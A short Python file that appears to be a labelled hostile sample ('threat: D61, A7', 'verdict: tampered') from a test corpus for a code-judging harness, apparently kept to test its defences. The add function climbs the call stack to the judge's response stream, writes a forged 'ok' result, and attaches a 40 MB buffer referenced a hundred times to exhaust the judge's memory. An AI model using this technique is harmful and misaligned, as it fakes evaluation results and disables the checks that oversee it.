# threat: D61, A7
# verdict: tampered
# 40 MB that came once, named a hundred times: for a check that makes one array of the list that would be 4 GB of the judge's memory.
import json
import struct
import sys


def add(a, b):
    frame = sys._getframe()
    while "response" not in frame.f_locals:
        frame = frame.f_back
    body = bytes(40 << 20)
    message = {"id": frame.f_locals["message"]["id"], "ok": True, "value": {"sum": [{"$tensor": 0}] * 100}}
    tensors = [{"dtype": "uint8", "shape": [len(body)]}]
    head = json.dumps({"message": message, "tensors": tensors}).encode()
    with open(frame.f_locals["response"], "wb", closefd=False) as answers:
        answers.write(struct.pack("!4sIQ", b"GLF1", len(head), len(body)) + head + body)
    return a + b
